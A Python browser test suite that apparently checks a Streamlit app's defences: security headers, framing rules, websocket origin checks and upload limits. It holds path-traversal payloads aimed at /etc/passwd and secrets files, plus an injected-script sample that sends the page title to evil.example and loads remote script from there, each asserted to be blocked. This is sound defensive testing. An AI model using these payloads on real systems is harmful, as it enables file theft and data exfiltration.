"""The real app, Streamlit's pages and files included, from outside: what every answer says, who may put a page into a
frame, what a script that got in could do, whose websockets and files are taken, and which paths lead nowhere."""

from __future__ import annotations

import re
import socket
import struct
import tomllib
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Request, expect

from components.web.security_headers import ALWAYS
from tests.browser.app import App
from tests.browser.conftest import DESKTOP
from tests.browser.guard import PageGuard
from tests.browser.open_pages import OrganiserPages

STREAMLITS = (
    "",
    "share",
    "organise",
    "nowhere",
    "static/nothing.js",
    "_stcore/health",
    "_stcore/host-config",
    "media/x",
)
MORE = ("_stcore/metrics", "component/x/y", "favicon.png", "_stcore/agent/openapi.json", "auth/login", "%ff", "%00")
OURS = ("newsletter.html", "visit.json", "visit.ics", "map.png", "worker.js", "healthz", "oembed", "organise/map")
OUTSIDE = (
    "/static/../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2fetc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/visit.toml",
    "/static/..\\..\\visit.toml",
    "/static//etc/passwd",
    "//etc/passwd",
    "/component/../../visit.toml",
    "/component/%2e%2e%2f%2e%2e%2fvisit.toml",
    "/_stcore/bidi-components/..%2f..%2fvisit.toml",
    "/media/..%2f..%2fetc%2fpasswd",
    "/app/static/..%2fvisit.toml",
    "/visit.toml",
    "/app.py",
    "/.streamlit/config.toml",
    "/.streamlit/secrets.toml",
    "/.git/config",
    "/.study-visit/answers.sqlite",
    "/.study-visit/study-visit.sqlite",
    "/organise/../../etc/passwd",
    "/pocket/../visit.toml",
    "file:///etc/passwd",
    "http://evil.example/",
    "/" + "../" * 500 + "etc/passwd",
    "/" + "a" * 60_000,
)


@dataclass
class Answer:
    """An answer as it came over the wire."""

    status: int
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""

    def header(self, name: str) -> str:
        """The value of a header, which must be there once."""
        values = [value for each, value in self.headers if each == name]
        assert len(values) == 1, f"{name} is there {len(values)} times: {self}"
        return values[0]


def ask(
    url: str, target: str, *, method: str = "GET", headers: dict[str, str] | None = None, body: bytes = b""
) -> Answer:
    """One request, with a target that no client has put right."""
    parts = urlsplit(url)
    sent = {"Host": parts.netloc, "Connection": "close", "Content-Length": str(len(body))} | (headers or {})
    lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in sent.items()), "", ""]
    with closing(socket.create_connection((parts.hostname, parts.port), timeout=20)) as wire:
        wire.sendall("\r\n".join(lines).encode("latin-1") + body)
        raw = b""
        while part := wire.recv(65536):
            raw += part
            if raw.startswith(b"HTTP/1.1 101"):
                break
    head, _, rest = raw.partition(b"\r\n\r\n")
    first, *more = head.decode("latin-1").split("\r\n")
    pairs = [(name.strip().lower(), value.strip()) for name, _, value in (line.partition(":") for line in more)]
    return Answer(status=int(first.split()[1]), headers=pairs, body=rest)


HANDSHAKE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
}


def test_every_answer_is_guarded_and_no_path_leads_outside(organisers: OrganiserPages) -> None:
    app = organisers.app
    index = ask(app.url, "/")
    script = re.search(rb'src="\.(/static/js/[^"]+)"', index.body)
    assert script is not None
    asked = [*(f"/{path}" for path in (*STREAMLITS, *MORE, *OURS)), script[1].decode()]
    for target in asked:
        for method in ("GET", "HEAD", "POST", "OPTIONS", "PATCH"):
            answer = ask(app.url, target, method=method)
            assert answer.status < 500, (method, target)
            for name, value in ALWAYS.items():
                assert answer.header(name.lower()) == value, (method, target, name)
            assert "frame-ancestors 'self'" in answer.header("content-security-policy"), (method, target)
            assert answer.header("x-frame-options") == "SAMEORIGIN", (method, target)
    policy = index.header("content-security-policy")
    assert "script-src 'self'" in policy
    assert ask(app.url, "/share").header("content-security-policy") == policy
    assert "script-src" not in ask(app.url, asked[-1]).header("content-security-policy"), "two words are enough there"
    for path in ("/pocket", "/embed"):
        answer = ask(app.url, path)
        assert "frame-ancestors" not in answer.header("content-security-policy")
        assert "x-frame-options" not in dict(answer.headers)

    for target in OUTSIDE:
        for method in ("GET", "POST"):
            answer = ask(app.url, target, method=method)
            assert answer.status < 500, target
            for inside in (b"root:x:0:0", b"time_zone", b"st.App", b"gatherUsageStats", b"SQLite format", b"[core]"):
                assert inside not in answer.body, target

    opens(app)
    takes_no_endless_message(app)
    takes_no_files(app)


def opens(app: App) -> None:
    """Its websocket to its own pages, and to no other's; and it asks nobody for its own address meanwhile."""
    here = urlsplit(app.url).netloc
    for origin in (f"http://{here}", f"https://{here}"):
        assert ask(app.url, "/_stcore/stream", headers=HANDSHAKE | {"Origin": origin}).status == 101
    for origin in (
        "http://evil.example",
        f"http://{here}.evil.example",
        "null",
        "http://[",
        f"http://{here}@evil.example",
    ):
        assert ask(app.url, "/_stcore/stream", headers=HANDSHAKE | {"Origin": origin}).status == 403
    assert app.outside_attempts == []


def takes_no_endless_message(app: App) -> None:
    """A message that says at its beginning that it will be longer than any of ours is not listened to."""
    parts = urlsplit(app.url)
    most = int(tomllib.loads((app.folder / ".streamlit/config.toml").read_text("utf-8"))["server"]["maxMessageSize"])
    sent = HANDSHAKE | {"Host": parts.netloc, "Origin": app.url}
    head = "\r\n".join(["GET /_stcore/stream HTTP/1.1", *(f"{name}: {value}" for name, value in sent.items()), "", ""])
    for megabytes, closed in ((most, False), (most + 1, True)):
        with closing(socket.create_connection((parts.hostname, parts.port), timeout=20)) as wire:
            wire.sendall(head.encode("ascii"))
            while not wire.recv(65536).endswith(b"\r\n\r\n"):
                pass
            # A whole, binary, masked message of so many bytes (RFC 6455, 5.2), of which none follows yet.
            wire.sendall(bytes([0x82, 0xFF]) + struct.pack(">Q", megabytes * 1_000_000) + b"mask")
            wire.settimeout(20 if closed else 1)
            try:
                answer = wire.recv(100)
            except TimeoutError:
                answer = b""
            # A closing frame with the code for "too big" (RFC 6455, 7.4.1).
            assert (struct.pack(">H", 1009) in answer) is closed, megabytes


def takes_no_files(app: App) -> None:
    """Files from a stranger who has a page open, with all that Streamlit wants for it but an organiser's session."""
    cookie = ask(app.url, "/_stcore/health").header("set-cookie").partition(";")[0]
    token = cookie.partition("=")[2]
    body = b'--x\r\nContent-Disposition: form-data; name="f"; filename="a.csv"\r\n\r\nabc\r\n--x--\r\n'
    headers = {"Cookie": cookie, "X-Xsrftoken": token, "Content-Type": "multipart/form-data; boundary=x"}
    refused = ask(app.url, "/_stcore/upload_file/any/any", method="PUT", headers=headers, body=body)
    assert refused.status == 401
    for method, target in (("POST", "/"), ("PUT", "/share"), ("POST", "/organise/sign-in"), ("POST", "/visit.json")):
        long = ask(app.url, target, method=method, headers={"Content-Length": str(50_000_000)})
        assert long.status == 413, (method, target)


def test_no_other_page_frames_ours_and_no_script_that_got_in_gets_far(
    organisers: OrganiserPages, page_guard: PageGuard, static_server: tuple[Path, str]
) -> None:
    for expected in ("/_stcore/", "frame-ancestors", "X-Frame-Options", "chrome-error", "Content Security Policy"):
        page_guard.expect(expected)
    app = organisers.app
    folder, elsewhere = static_server
    may, may_not = (
        ("pocket", "embed"),
        ("", "share", "organise", "newsletter.html", "visit.json", "healthz", "static/x"),
    )
    frames = "".join(f'<iframe name="frame-{path}" src="{app.url}/{path}"></iframe>' for path in (*may, *may_not))
    (folder / "index.html").write_text(f"<!doctype html><title>Elsewhere</title>{frames}", "utf-8")
    stranger = organisers.page(DESKTOP)
    stranger.goto(f"{elsewhere}/index.html")
    for path in may:
        expect(stranger.frame_locator(f'iframe[name="frame-{path}"]').locator("li.stop").first).to_be_attached()
    for path in may_not:
        frame = stranger.frame(name=f"frame-{path}")
        assert frame is not None
        frame.wait_for_url(re.compile("^chrome-error:"))  # what stands where a page was refused

    page = organisers.page(DESKTOP)
    failed: list[Request] = []

    def note(request: Request) -> None:
        failed.append(request)

    page.on("requestfailed", note)
    assert_held(organisers.signed_in(DESKTOP).evaluate(ESCAPE))
    policies = [page.request.get(f"{app.url}/{path}").headers["content-security-policy"] for path in ("organise", "")]
    assert policies[0] == policies[1]
    page.remove_listener("requestfailed", note)
    # The browser tells of what the policy held back as of requests that failed by it.
    refused = [request.failure for request in failed if "evil" in request.url]
    assert set(refused) == {"csp"}
    assert {urlsplit(url).hostname for url in page_guard.foreign_requests} == {"evil.example"}
    page_guard.forget()


ESCAPE = """async () => {
  const violated = new Set();
  document.addEventListener("securitypolicyviolation", (event) => violated.add(event.effectiveDirective));
  const inline = document.createElement("script");
  inline.textContent = "window.tripped = 1";
  document.head.append(inline);
  document.body.insertAdjacentHTML("beforeend", '<b onclick="window.tripped = 2" id="trap">x</b>');
  document.getElementById("trap").click();
  const far = document.createElement("script");
  far.src = "https://evil.example/x.js";
  document.head.append(far);
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/";
  document.body.append(frame);
  new Image().src = "https://evil.example/?" + document.title;
  try { await fetch("https://evil.example/"); } catch {}
  try { new WebSocket("wss://evil.example/"); } catch {}
  setTimeout("window.tripped = 3", 0);
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.prepend(base);
  for (let waited = 0; waited < 20000 && violated.size < 7; waited += 50) {
    await new Promise((done) => setTimeout(done, 50));
  }
  const based = document.baseURI;
  for (const each of [inline, far, frame, base, document.getElementById("trap")]) each.remove();
  return { tripped: window.tripped ?? null, violated: [...violated], based };
}"""


def assert_held(outcome: dict[str, object]) -> None:
    """Nothing of it ran, and all of it was refused by the policy."""
    assert outcome["tripped"] is None
    assert "evil" not in str(outcome["based"])
    violated = outcome["violated"]
    assert isinstance(violated, list)
    wanted = {"script-src-elem", "script-src-attr", "script-src", "frame-src", "img-src", "connect-src", "base-uri"}
    assert wanted <= set(violated)
